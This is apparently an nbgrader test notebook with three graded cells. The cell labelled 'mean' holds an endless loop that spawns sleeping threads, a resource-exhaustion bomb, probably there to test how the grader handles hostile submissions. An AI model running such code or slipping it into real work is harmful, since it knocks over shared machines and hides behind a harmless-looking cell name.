# %% nbgrader={"grade_id": "square"}
def square(x):
    return x * x

# %% nbgrader={"grade_id": "mean"}
import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(1000,)).start()

# %% nbgrader={"grade_id": "guess"}
def guess():
    return [2, 3, 5, 7]
